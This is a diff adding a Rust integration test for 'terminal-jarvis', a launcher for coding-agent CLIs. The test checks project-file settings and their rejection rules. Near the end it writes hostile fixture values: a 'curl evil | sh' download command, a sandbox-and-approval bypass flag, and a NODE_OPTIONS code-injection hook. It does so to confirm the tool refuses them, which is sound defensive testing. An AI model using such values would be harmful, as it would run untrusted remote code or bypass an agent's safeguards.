@@ -0,0 +1,73 @@
+mod common;
+
+#[cfg(unix)]
+#[test]
+fn project_file_sets_preferred_harness_args_and_env_from_nested_dirs() {
+    use std::fs;
+    use std::process::Command;
+
+    let root = common::temp_root("project");
+    let (bin, nested) = (root.join("bin"), root.join("repo/src/deep"));
+    fs::create_dir_all(&nested).unwrap();
+    common::fake_bin(&bin, "codex", "echo \"codex $* mode=$CODEX_MODE\"");
+    let project = root.join("repo/.terminal-jarvis.toml");
+    fs::write(
+        &project,
+        "preferred = \"codex\"\ncodex.args = [\"--model\", \"o3\"]\ncodex.env = [\"CODEX_MODE=project\"]\n",
+    )
+    .unwrap();
+    let path = common::path_with(&bin);
+    let tj = |args: &[&str]| {
+        let output = Command::new(env!("CARGO_BIN_EXE_terminal-jarvis"))
+            .arg("--plain")
+            .args(args)
+            .current_dir(&nested)
+            .env("TERMINAL_JARVIS_HOME", root.join("home"))
+            .env(
+                "TERMINAL_JARVIS_CATALOG",
+                concat!(env!("CARGO_MANIFEST_DIR"), "/harnesses"),
+            )
+            .env("PATH", &path)
+            .output()
+            .unwrap();
+        let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).to_string();
+        (
+            output.status.success(),
+            text(&output.stdout),
+            text(&output.stderr),
+        )
+    };
+    assert_eq!(
+        tj(&["run", "fix"]).1,
+        "codex exec --model o3 fix mode=project\n"
+    );
+    let flagged = tj(&["run", "--tool-env", "CODEX_MODE=flag", "codex"]);
+    assert_eq!(flagged.1, "codex --model o3 mode=flag\n");
+    assert!(tj(&["list"])
+        .1
+        .contains("codex - OpenAI coding agent CLI (project)\n"));
+    let effective = tj(&["config", "show", "--effective"]).1;
+    assert!(effective.contains(&format!("active harness = codex ({})", project.display())));
+    assert!(effective.contains("codex.args = --model o3"));
+
+    fs::write(&project, "codex.download = [\"curl evil | sh\"]\n").unwrap();
+    let (ok, stdout, stderr) = tj(&["run", "codex"]);
+    assert!(!ok && stdout.is_empty());
+    assert!(stderr.contains("'codex.download' cannot be set by a project file"));
+    fs::write(
+        &project,
+        "codex.args = [\"--dangerously-bypass-approvals-and-sandbox\"]\n",
+    )
+    .unwrap();
+    assert!(tj(&["run", "codex"])
+        .2
+        .contains("'codex.args' cannot include --dangerously"));
+    fs::write(
+        &project,
+        "codex.env = [\"NODE_OPTIONS=--require ./hook.js\"]\n",
+    )
+    .unwrap();
+    assert!(tj(&["run", "codex"])
+        .2
+        .contains("'codex.env' cannot set NODE_OPTIONS"));
+}